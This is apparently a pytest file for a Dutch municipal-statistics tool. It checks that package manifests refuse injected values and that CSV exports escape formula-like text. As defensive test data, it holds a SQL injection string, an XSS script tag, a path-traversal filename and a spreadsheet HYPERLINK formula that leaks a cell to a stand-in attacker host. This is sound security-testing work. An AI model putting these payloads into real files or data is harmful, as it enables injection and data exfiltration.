"""Every manifest field is validated; text a spreadsheet would run never leaves as a formula.

Before: ``periode`` holding SQL, ``bron`` holding ``<script>`` and a ``dataset`` starting with
``=`` were accepted and appeared raw in JSON and CSV.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from fastapi.testclient import TestClient

from buurtbeeld.errors import ImportFileError
from buurtbeeld.package_format import SigningKey, validate_manifest
from buurtbeeld.store.intake import intake_package
from buurtbeeld.store.package_reader import read_package
from buurtbeeld.store.workspace import Workspace
from buurtbeeld.web.app import create_app
from buurtbeeld.web.format import csv_safe
from tests.signing import make_key, trusted
from tests.store.test_intake import protected_contents
from tests.store.test_package_reader import manifest_and_table, package_from, resigned

SQL = "2024'; DROP TABLE observation; --"
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://aanvaller.example/?"&A1)'


@pytest.fixture
def good(filled_workspace: Workspace, tmp_path: Path) -> tuple[Path, SigningKey]:
    contents = protected_contents(filled_workspace)
    key = make_key(tmp_path / "partner", contents.source)
    return package_from(contents, tmp_path / "goed.zip", key), key


def _set(field: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda manifest: manifest.update({field: value})


def _set_table(field: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda manifest: manifest["tabellen"][0].update({field: value})


@pytest.mark.parametrize(
    ("change", "field"),
    [
        (_set("periode", SQL), "periode"),
        (_set("dataset", FORMULA), "dataset"),
        (_set("dataset", "=wmo"), "dataset"),
        (_set("eenheid", "personen<b>"), "eenheid"),
        (_set("indelingsjaar", "2023"), "indelingsjaar"),
        (_set("gebied", ["GM0505; DROP"]), "gebied.0"),
        (_set("onbekend_veld", 1), "onbekend_veld"),
        (_set_table("titel", SCRIPT), "tabellen.0.titel"),
        (_set_table("combinaties", "kruistabel"), "tabellen.0.combinaties"),
        (_set_table("titel", "-2+3"), "tabellen.0.titel"),
        (_set_table("richting", "omhoog"), "tabellen.0.richting"),
        (_set_table("maat", "gemiddelde"), "tabellen.0.maat"),
        (_set_table("bestand", "../voorzieningen.parquet"), "tabellen.0.bestand"),
    ],
)
def test_invalid_fields_are_refused_by_name_without_echoing_them(
    good: tuple[Path, SigningKey],
    tmp_path: Path,
    change: Callable[[dict[str, Any]], None],
    field: str,
) -> None:
    path, key = good
    tampered = resigned(path, tmp_path / "fout.zip", key, change)  # signed by the partner itself
    with pytest.raises(ImportFileError) as info:
        read_package(tampered, trusted(key))
    err = info.value
    assert err.code in {"BB-PKG-025", "BB-PKG-004"}, err
    if err.code == "BB-PKG-025":
        assert f"'{field}'" in err.message
    for raw in (SQL, SCRIPT, FORMULA, "DROP", "<b>", "omhoog"):
        assert raw not in err.message and raw not in err.hint


@pytest.mark.parametrize("bron", [SCRIPT, FORMULA, "@SUM(A1)", "\tWmo", ""])
def test_the_source_is_plain_text(filled_workspace: Workspace, bron: str) -> None:
    manifest, _ = manifest_and_table(protected_contents(filled_workspace))
    full = {
        **manifest,
        "formaat": "buurtbeeld-pakket",
        "versie": 3,
        "bron": bron,
        "bestanden": {},
    }
    with pytest.raises(ImportFileError) as info:
        validate_manifest(full)
    assert info.value.code == "BB-PKG-025" and "'bron'" in info.value.message
    validate_manifest({**full, "bron": "Wmo-team Dordrecht (gemeente), afd. 2/3"})


def test_an_unknown_profile_is_refused(good: tuple[Path, SigningKey], tmp_path: Path) -> None:
    path, key = good
    tampered = resigned(path, tmp_path / "p.zip", key, _set("profiel", "geen-beveiliging"))
    with pytest.raises(ImportFileError) as info:
        read_package(tampered, trusted(key))
    assert info.value.code == "BB-PKG-025" and "geen-beveiliging" not in info.value.message


def test_a_category_holding_a_formula_is_refused(
    filled_workspace: Workspace, tmp_path: Path
) -> None:
    contents = protected_contents(filled_workspace)
    key = make_key(tmp_path / "partner", contents.source)
    manifest, data = manifest_and_table(contents)
    labels = [FORMULA if c == "begeleiding" else c for c in data["categorie"].to_pylist()]
    data = data.set_column(data.column_names.index("categorie"), "categorie", pa.array(labels))
    from buurtbeeld.package_format import write_package

    path = write_package(tmp_path / "f.zip", manifest, {"voorzieningen": data}, key=key)
    with pytest.raises(ImportFileError) as info:
        read_package(path, trusted(key))
    assert info.value.code == "BB-PKG-025" and FORMULA not in info.value.message


def test_csv_safe() -> None:
    for text in ("=1+1", "+31", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert csv_safe(text) == "'" + text
    for text in ("Dordrecht", "", "Bron: CBS", "'=al veilig"):
        assert csv_safe(text) == text


def test_every_text_cell_of_the_csv_export_is_safe(filled_workspace: Workspace) -> None:
    """A region name and a source label that start like formulas (e.g. from a workspace made
    before these checks) reach the CSV neutralised; numbers stay numbers."""
    contents = protected_contents(filled_workspace)
    report = intake_package(filled_workspace, contents)
    ident = report.indicators[0]
    with filled_workspace.transaction() as con:
        con.execute(
            "UPDATE region SET name = ? WHERE code = 'BU05050100' AND division_year = 2023",
            [FORMULA],
        )
        con.execute(
            "UPDATE indicator_def SET definition_json = replace(definition_json, "
            "'Wmo-team Dordrecht (beveiligd pakket)', '=Wmo-team') WHERE id = ?",
            [ident],
        )
    with TestClient(create_app(filled_workspace.root), base_url="http://127.0.0.1") as client:
        body = client.get("/gemeente/GM0505/tabel.csv", params={"indicator": ident}).text
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    named = next(r for r in rows if r[0] == "BU05050100")
    assert named[1] == "'" + FORMULA
    source = rows[0].index("bron")
    assert all(r[source].startswith("Bron: ") for r in rows[1:])
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
